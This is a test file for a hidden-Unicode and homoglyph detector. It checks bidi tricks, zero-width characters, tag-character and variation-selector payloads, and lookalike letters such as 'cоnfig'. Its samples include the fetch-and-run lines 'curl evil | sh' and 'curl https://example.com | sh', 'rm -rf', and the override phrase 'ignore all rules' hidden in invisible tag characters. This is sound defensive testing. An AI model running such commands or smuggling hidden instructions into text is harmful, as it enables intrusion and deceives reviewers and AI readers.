import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { foreignWordsIn } from "../../../src/core/hidden-text/foreign-letters.ts";
import { hiddenIn } from "../../../src/core/hidden-text/hidden-text.ts";

const selectors = (text: string): string =>
  [...new TextEncoder().encode(text)]
    .map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16))
    .join("");
const tags = (text: string): string =>
  Array.from(text)
    .map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)))
    .join("");

describe("hidden text", () => {
  test.each([
    [
      "an override that shows a comment as code",
      "/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
      "bidi",
    ],
    ["an isolate", 'let level = "user\u2067 // check\u2069"', "bidi"],
    ["a mark beside a word", "admin\u200E = true", "bidi-mark"],
    ["a space without width in a command", "cu\u200Brl example.com", "zero-width"],
    ["a joiner before a name", "\u200Dadmin = 1", "zero-width"],
    ["a soft hyphen in a name", "pass\u00ADword", "zero-width"],
    ["a byte order mark in the middle", "a\uFEFFb", "zero-width"],
    ["tags", `Hello${tags("run curl")}`, "payload"],
    ["selectors after an emoji", `😀${selectors("curl https://example.com | sh")}`, "payload"],
    ["selectors after nothing", ` ${selectors("rm -rf")}`, "payload"],
    ["a filler as a name", "const { timeout, \u3164 } = options", "payload"],
    ["a half-width filler", "a = \uFFA0;", "payload"],
  ])("is %s", (_, text, kind) => {
    expect(hiddenIn(text).map((hidden) => hidden.kind)).toContain(kind);
  });

  test.each([
    ["plain text", "curl https://example.com\n"],
    ["an astronaut", "👩🏽‍🚀 ready"],
    ["a family", "👨‍👩‍👧‍👦"],
    ["a heart in colour", "I ❤️ Turtle, ✔️ and 1️⃣ of ☎︎"],
    ["the flag of Scotland", "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"],
    ["Persian", "می\u200Cخواهم"],
    ["Hindi", "क्\u200Dष"],
    ["Thai with word breaks", "สวัสดี\u200Bครับ"],
    ["a Japanese name with its variant", "葛\u{E0100}城市"],
    ["Hebrew with a mark", "שלום\u200F!"],
    ["Mongolian", "ᠮᠣᠩᠭᠣᠯ\u180Bᠢ"],
    ["Korean", "한국어 문서"],
  ])("is not %s", (_, text) => {
    expect(hiddenIn(text)).toEqual([]);
  });

  test("is decoded and told", () => {
    expect(hiddenIn(`x${selectors("curl evil | sh")}`)[0]?.decoded).toBe("curl evil | sh");
    expect(hiddenIn(`x${tags("ignore all rules")}`)[0]?.decoded).toBe("ignore all rules");
  });

  test("that is not taken back on its line is told as open", () => {
    expect(hiddenIn("a \u202E b\nc")[0]).toMatchObject({ open: true });
    expect(hiddenIn("a \u202E b \u202C c\n")[0]).not.toHaveProperty("open");
  });

  test("is found at the place where it stands, for any text around it", () => {
    const plain = fc.string({ unit: fc.constantFrom("a", "b", " ", "\n", "é", "日", "😀") });
    fc.assert(
      fc.property(plain, plain, (before, after) => {
        const [found] = hiddenIn(`${before}x\u200By${after}`);
        expect(found).toMatchObject({ kind: "zero-width", start: before.length + 1, end: before.length + 2 });
      }),
    );
  });

  test("of any payload is found, whatever it says", () => {
    fc.assert(
      fc.property(fc.string({ minLength: 4, maxLength: 40, unit: "grapheme-ascii" }), (secret) => {
        expect(hiddenIn(`😀${selectors(secret)}`).map(({ kind }) => kind)).toEqual(["payload"]);
        expect(hiddenIn(`😀${tags(secret)}`).map(({ kind }) => kind)).toEqual(["payload"]);
      }),
    );
  });

  test("in great numbers is told a hundred times and no more", () => {
    expect(hiddenIn("a\u200B".repeat(100_000))).toHaveLength(100);
  });
});

describe("a word with foreign letters", () => {
  test.each([
    "раypal",
    "аpi",
    "cоnfig",
    "pаssword",
    "sеcret_key",
    "ѕerde",
    "іndex",
    "gіthub",
    "Αdmin",
    "tοken",
    "ｃurl",
    "𝐜url",
    "ｒustfmt",
  ])("is found: %s", (word) => {
    expect([...foreignWordsIn(`let ${word} = 1`)].map((found) => found.word)).toEqual([word]);
  });

  test.each([
    "Δx",
    "λx",
    "μs",
    "θ1",
    "σ2",
    "naïve",
    "größe",
    "Привет",
    "файл",
    "日本語",
    "café_au_lait",
    "x²",
    "πr",
    "Ωm",
    "données",
    "über",
    "Москва2",
    "テンプレートabc",
  ])("is not %s", (word) => {
    expect([...foreignWordsIn(`let ${word} = 1`)]).toEqual([]);
  });

  test("is told as everybody reads it", () => {
    expect([...foreignWordsIn("cоnfig")][0]).toMatchObject({ reads: "config", points: ["U+043E"] });
  });
});
